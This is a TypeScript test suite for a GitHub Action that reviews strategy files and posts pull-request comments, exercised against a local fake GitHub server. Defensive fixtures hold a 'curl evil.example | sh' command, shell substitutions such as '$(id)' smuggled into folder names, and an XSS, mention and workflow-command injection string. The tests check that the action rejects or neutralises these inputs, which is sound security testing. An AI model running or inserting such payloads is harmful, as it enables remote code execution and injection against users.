/** The steps of `action.yml`, executed as a runner does, with the built program and a local GitHub server. */
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { marked } from 'marked';
import { afterEach, describe, expect, it } from 'vitest';
import { withoutCounts } from '../../scripts/transcripts.ts';
import { BOT, type LocalGithub, localGithub, TOKEN } from './github-server.ts';
import {
  ACTION,
  checkout,
  type Job,
  mergeGroup,
  pullRequest,
  push,
  type Ran,
  runAction,
  strat,
  type Trigger,
  textOf,
  variables,
  workflowRun,
} from './runner.ts';

const lowered = (strategy: string) => strategy.replace('target: 80', 'target: 60');
const reordered = (strategy: string) => `# A remark.\n${strategy}`;
let job: Job | undefined;
let server: LocalGithub | undefined;

afterEach(async () => {
  await server?.close();
  job?.remove();
  [server, job] = [undefined, undefined];
});

interface Scene {
  readonly change?: (strategy: string) => string;
  readonly depth?: number;
  readonly folder?: string;
  readonly files?: Readonly<Record<string, string>>;
  readonly fork?: boolean;
  readonly trigger?: (head: string) => Trigger;
  readonly inputs?: Readonly<Record<string, string>>;
  readonly comments?: readonly { readonly author: string; readonly body: string }[];
  readonly instead?: LocalGithub['world']['instead'];
}

async function run(scene: Scene = {}): Promise<Ran & { readonly comments: readonly string[] }> {
  const { change = lowered, fork = false, trigger = (head: string) => pullRequest(head, { fork }) } = scene;
  job = checkout(change, scene);
  server = await localGithub(scene.comments);
  server.world.head = job.head;
  if (scene.instead) server.world.instead = scene.instead;
  const ran = await runAction(job, variables(job, trigger(job.head), server.origin), scene.inputs);
  for (const text of [ran.log, ran.summary, JSON.stringify(ran.outputs), ...filesIn(job.root)])
    expect(text).not.toContain(TOKEN);
  return { ...ran, comments: server.world.comments.map(({ body }) => body) };
}

const filesIn = (root: string) =>
  readdirSync(root, { withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ name }) => textOf(join(root, name)));

describe('a pull request of the repository itself', () => {
  it('fails, with annotations, a summary and a comment, if it lowers a target', async () => {
    const { code, log, outputs, summary, comments } = await run();
    expect(code).toBe(1);
    expect(log).toMatch(/^::error file=strategy\.yaml,line=\d+,.*title=target-lowered::/m);
    expect(log).toContain('Posted a comment on pull request 7 of harbor/strategy.');
    expect(outputs).toEqual({
      'exit-code': '1',
      errors: '1',
      // The example has work past its date on that day, and its sentence still says “Four in five”.
      warnings: '2',
      'goalposts-moved': '1',
      unacknowledged: '1',
      'records-only': 'false',
    });
    expect(summary).toContain('## 1 needs a reason (easier)');
    expect(summary).toContain('against `main@');
    expect(comments).toEqual([`<!-- strat-review 1 all 4000000001 1 -->\n${summary}`]);
    const [, example] =
      /<!-- comment -->\n`{4}markdown\n([\s\S]*?)`{4}\n/.exec(textOf('docs/reviewing.md')) ?? [];
    // On that day the example has warnings of its own, which the page does not show.
    const own = summary
      .replace(/### Findings\n\n(?:(?:\*\*|- )[^\n]*\n\n)*/, '')
      .replace(/<details><summary>From before this change: [\s\S]*?<\/details>\n\n/, '');
    expect(withoutCounts(own.replace(/@[0-9a-f]{7}/, '@a1b2c3d'))).toBe(example);
  });

  it('passes without a comment if no commitment changes', async () => {
    const { code, outputs, comments, log } = await run({ change: reordered });
    expect([code, outputs['exit-code'], outputs['goalposts-moved']]).toEqual([0, '0', '0']);
    expect(comments).toEqual([]);
    expect(log).toContain('there is nothing to report');
  });

  it('may be merged without review if it only adds a check-in, unless the run ends early', async () => {
    const files = {
      'checkins/2027-04-30.yaml':
        'strat: 1\nkind: checkin\non: 2027-04-30\nby: Ines\nobjectives: {}\nsummary: There is nothing new.\n',
    };
    const { code, outputs, comments } = await run({ change: (same) => same, files });
    expect([code, outputs['records-only']]).toEqual([0, 'true']);
    expect(comments[0]).toContain('It only adds check-ins, so it can be merged without review.');
    const early = await run({ change: (same) => same, files, inputs: { 'fail-on': 'fatal' } });
    expect([early.code, early.outputs['records-only']]).toEqual([2, 'false']);
  });

  it('clears its comment if it restores a target', async () => {
    const body = '<!-- strat-review 1 all 3999999999 1 -->\n## 1 goalpost moved without a reason\n';
    const { code, comments } = await run({ change: reordered, comments: [{ author: BOT, body }] });
    expect(code).toBe(0);
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain('4000000001 1 -->\n## Nothing moved\n\n**Ready to merge**');
  });

  it('passes with an explaining comment if it gives a reason', async () => {
    const body = '<!-- strat-review 1 all 3999999999 1 -->\n## 1 goalpost moved without a reason\n';
    const why = 'The course comes a year later.';
    const change =
      'kind: amendment\nchanges:\n  - of: same-evening\n    field: target\n    from: 80\n    to: 60';
    const files = {
      'amendments/2027-05-01-same-evening.md': `---\nstrat: 1\non: 2027-05-01\nby: Bram\n${change}\n---\n${why}\n`,
    };
    const { code, outputs, comments } = await run({ files, comments: [{ author: BOT, body }] });
    expect([code, outputs['goalposts-moved'], outputs.unacknowledged]).toEqual([0, '1', '0']);
    expect(comments).toHaveLength(1);
    expect(comments[0]).toContain('## 1 moved, with a reason\n\n**Ready to merge**');
    expect(comments[0]).toContain(`| ${why} (Bram) |`);
  });

  it.each([
    [403, '`permissions: pull-requests: write`'],
    [404, 'cannot find pull request 7 of harbor/strategy (404)'],
    [401, 'does not accept the token (401)'],
  ])('keeps its verdict if GitHub replies %i', async (status, said) => {
    const { code, log, summary } = await run({ instead: () => ({ status, body: {} }) });
    expect(code).toBe(1);
    expect(log).toContain('No comment posted: ');
    expect(log).toContain(said);
    expect(summary).toContain('1 needs a reason');
  });

  it('cannot be judged in a checkout that is too shallow, and gets advice', async () => {
    const { code, log, outputs, comments } = await run({ depth: 1 });
    expect([code, outputs['exit-code']]).toEqual([2, '2']);
    expect(log).toContain('Set `fetch-depth: 2` in the checkout step, or run: git fetch --deepen=1');
    expect(comments).toEqual([]);
  });

  it('gets no comment if none is wanted', async () => {
    const { code, log, comments } = await run({ inputs: { comment: 'false' } });
    expect([code, comments, server?.asked]).toEqual([1, [], []]);
    expect(log).not.toContain('comment');
  });

  it('gets no comment and a message if there is no token', async () => {
    const { code, log, comments } = await run({ inputs: { token: '' } });
    expect([code, comments, server?.asked]).toEqual([1, [], []]);
    expect(log).toContain('No comment posted: set GITHUB_TOKEN.');
  });

  it('never shows a token, even one pasted with a line break', async () => {
    const { code, log } = await run({ inputs: { token: `${TOKEN.slice(0, 20)}\n${TOKEN.slice(20)}` } });
    expect(code).toBe(1);
    expect(log).toContain('GITHUB_TOKEN is not a valid token, because it has');
    expect(log).not.toContain(TOKEN.slice(0, 20));
  });
});

describe('a dry run', () => {
  it('prints the requests, sends nothing and writes nothing', async () => {
    job = checkout(lowered);
    server = await localGithub();
    const [summary, outputs] = [join(job.top, 'summary'), join(job.top, 'outputs')];
    const env = {
      ...variables(job, pullRequest(job.head), server.origin),
      GITHUB_TOKEN: TOKEN,
      GITHUB_STEP_SUMMARY: summary,
      GITHUB_OUTPUT: outputs,
    };
    const { code, log } = await strat(job, env, 'review', '--dry-run', '--output', 'sarif=out.sarif');
    expect(code).toBe(1);
    expect(log).toContain(
      'exit-code=1\nerrors=1\nwarnings=2\ngoalposts-moved=1\nunacknowledged=1\nrecords-only=false\n',
    );
    expect(log).toContain('## 1 needs a reason (easier)');
    expect(log).toContain(
      'Nothing was sent, because this is a dry run. Without --dry-run, this would be the comment on pull request 7 of harbor/strategy.',
    );
    expect(log).not.toMatch(/^::/m);
    expect(log).not.toContain(TOKEN);
    expect([server.asked, textOf(summary), textOf(outputs), readdirSync(job.root)]).toEqual([
      [],
      '',
      '',
      ['.git', 'README.md', 'strategy.yaml'],
    ]);
  });
});

describe('inputs', () => {
  it('reach the program unchanged, without a shell', async () => {
    const folder = 'team one/$(touch ran)';
    const inputs = {
      paths: `${folder}/strategy.yaml\n`,
      sarif: 'strat $(touch ran).sarif',
      config: '',
      'fail-on': 'error',
      against: 'HEAD^1',
    };
    const { code, outputs, comments } = await run({ folder, inputs });
    expect([code, outputs.errors]).toEqual([1, '1']);
    expect(comments[0]).toMatch(/^<!-- strat-review 1 [0-9a-f]{16} /);
    expect(existsSync(join(job?.root ?? '', 'strat $(touch ran).sarif'))).toBe(true);
    expect(readdirSync(job?.root ?? '')).not.toContain('ran');
  });

  it.each([
    [{ against: '--output=x' }, 'A value is missing before'],
    [{ 'fail-on': 'errors' }, 'Write `--fail-on error`.'],
    [{ paths: '--no-comment' }, '--no-comment'],
    [{ paths: 'nowhere' }, 'nowhere'],
    [{ save: 'strategy.yaml' }, 'strategy.yaml is a strategy, so it is not replaced.'],
  ])('exit with 2 for %j', async (inputs, said) => {
    const { code, log, outputs } = await run({ inputs });
    expect([code, outputs['exit-code']]).toEqual([2, '2']);
    expect(log).toContain(said);
  });

  it('are in no script', () => {
    for (const { run: script, shell } of ACTION.runs.steps) {
      expect(script).not.toContain('${{');
      expect(shell).toBe('bash');
    }
    expect(ACTION.runs.using).toBe('composite');
  });
});

describe('a push', () => {
  it('is compared with the commit before it, and sends no request', async () => {
    const { code, log, summary, outputs } = await run({ trigger: push });
    expect(code).toBe(1);
    expect(log).toContain('No comment posted: this run is not for a pull request.');
    expect(summary).toContain('## 1 needs a reason');
    expect(outputs.unacknowledged).toBe('1');
    expect(server?.asked).toEqual([]);
  });

  it('has nothing to compare with if it is one commit, and does not claim that nothing moved', async () => {
    const { code, summary } = await run({ trigger: push, depth: 1 });
    expect(code).toBe(0);
    expect(summary).toContain('## 2 warnings\n');
  });
});

describe('a merge queue', () => {
  it('is compared with the commit that the group is built on', async () => {
    const { code, log } = await run({ trigger: () => mergeGroup('d'.repeat(40)) });
    expect(code).toBe(2);
    expect(log).toContain(`Run: git fetch --depth=1 origin ${'d'.repeat(40)}, or set`);
    if (!job || !server) throw new Error('There was no job.');
    const base = job.repository.git('rev-parse', 'HEAD^1').trim();
    const ran = await runAction(job, variables(job, mergeGroup(base), server.origin));
    expect(ran.code).toBe(1);
    expect(ran.outputs['goalposts-moved']).toBe('1');
  });
});

describe('a fork', () => {
  const saving = { comment: 'false', save: 'strat-review.json' };

  it('gets its verdict, its annotations and its summary, and no comment', async () => {
    const { code, log, summary } = await run({ fork: true });
    expect(code).toBe(1);
    expect(log).toContain('No comment posted: this pull request comes from a fork');
    expect(summary).toContain('## 1 needs a reason');
    expect(server?.asked).toEqual([]);
  });

  it('gets its comment from a second job, which looks up its number', async () => {
    await run({ fork: true, inputs: saving });
    const saved = textOf(join(job?.root ?? '', 'strat-review.json'));
    const { code, log, comments } = await post(saved);
    expect(log).toBe('Posted a comment on pull request 7 of harbor/strategy.\n');
    expect(code).toBe(0);
    expect(comments).toHaveLength(1);
    expect(comments[0]).toMatch(
      /^<!-- strat-review 1 all 4000000001 1 -->\nThis comment is not verified: the fork's own run computed it\.[^\n]*\n\n## Not verified: 1 goalpost moved without/,
    );
    expect(server?.lines()[0]).toBe('GET /repos/harbor/strategy/pulls');
  });

  it('gets no comment if it has moved on, or if its run was another', async () => {
    await run({ fork: true, inputs: saving });
    const saved = textOf(join(job?.root ?? '', 'strat-review.json'));
    const before = await post(saved, workflowRun('c'.repeat(40)));
    expect([before.code, before.comments]).toEqual([0, []]);
    expect(before.log).toContain('No comment posted: this needs');
    const pushed = await post(saved, workflowRun(job?.head ?? '', 'push'));
    expect([pushed.code, pushed.comments]).toEqual([2, []]);
  });

  it('cannot put markup, mentions, links or commands into the comment', async () => {
    const { comments } = await run({ fork: true, inputs: saving }).then(() => post(hostile()));
    const [body = ''] = comments;
    const tokens = marked.lexer(body.slice(body.indexOf('\n')));
    const seen: string[] = [];
    marked.walkTokens(tokens, (token) => {
      seen.push('depth' in token ? `${token.type}${token.depth}` : token.type);
    });
    expect(seen.filter((type) => /^(?:image|html|heading1|code$)/.test(type))).toEqual([]);
    expect(seen.filter((type) => type.startsWith('heading'))).toEqual(['heading2', 'heading3', 'heading3']);
    expect(body.replace(/`[^`]*`/g, '')).not.toMatch(/@\w|https:\/\/(?!github\.com\/)|^::/m);
  });

  it.each([
    ['another command', { command: 'curl evil.example | sh' }],
    ['a folder that a shell would run', { command: 'strat amend a "$(id)" --why "…"' }],
    ['a command with more on its line', { command: 'strat amend a --why "…"\n```\n# Hi' }],
  ])('is refused as a whole with %s', async (_what, change) => {
    await run({ fork: true, inputs: saving });
    const { code, log, comments } = await post(hostile(change));
    expect([code, comments]).toEqual([2, []]);
    expect(log).toContain('is not a saved review');
  });

  it.each([
    ['nothing', ''],
    ['no JSON', '<html>'],
    ['another object', '{"version":1,"body":"@everyone"}'],
    ['another version', '{"version":2}'],
    ['too much', ' '.repeat(5_000_000)],
    ['deep nesting', '['.repeat(200_000)],
  ])('gets a message if its file contains %s', async (_what, saved) => {
    await run({ fork: true, inputs: saving });
    const { code, log, comments } = await post(saved);
    expect([code, comments]).toEqual([2, []]);
    expect(log).toContain('is not a saved review');
  });

  /** Runs the second job: no checkout, a token that may write, and a file from the first. */
  async function post(saved: string, trigger = workflowRun(job?.head ?? '')) {
    if (!job || !server) throw new Error('The first job comes first.');
    const file = join(job.top, 'temp', 'strat-review.json');
    writeFileSync(file, saved);
    const posted = join(job.top, 'posted');
    writeFileSync(posted, '');
    const env = { ...variables(job, trigger, server.origin), GITHUB_TOKEN: TOKEN, GITHUB_OUTPUT: posted };
    const ran = await strat(
      { ...job, root: join(job.top, 'temp') },
      env,
      'review',
      '--github',
      '--post',
      file,
    );
    expect(ran.log).not.toContain(TOKEN);
    // A second job checks nothing, so nothing may merge on its word.
    expect(textOf(posted)).toBe('records-only=false\n');
    return { ...ran, comments: server.world.comments.map(({ body }) => body) };
  }
});

const EVIL =
  '<img src=x onerror=alert(1)> <script>x</script> @everyone [click](https://evil.example)\n# Big\n::error::x';

function hostile(change: object = {}): string {
  const row = { name: EVIL, what: EVIL, values: EVIL };
  const words = [{ kind: 'gone', text: EVIL }];
  const one = { class: 'goalpost', level: 'error', row, effect: EVIL, hint: EVIL, words, ...change };
  const two = {
    class: 'direction',
    level: 'info',
    row,
    words,
    acknowledged: { file: EVIL, why: EVIL, by: EVIL },
  };
  const finding = {
    rule: 'key-unknown',
    level: 'error',
    message: EVIL,
    help: EVIL,
    file: EVIL,
    line: 1,
    wasThere: false,
  };
  return JSON.stringify({
    version: 1,
    key: 'all',
    exit: 1,
    compared: true,
    strategies: 1,
    rules: 1,
    errors: 1,
    warnings: 0,
    infos: 0,
    moved: 1,
    unacknowledged: 1,
    findings: [finding],
    fresh: { error: 1, warn: 0, info: 0 },
    before: { error: 0, warn: 0, info: 0 },
    comparisons: [{ name: EVIL, file: EVIL, from: `\`${EVIL}`, changes: [one, two] }],
  });
}
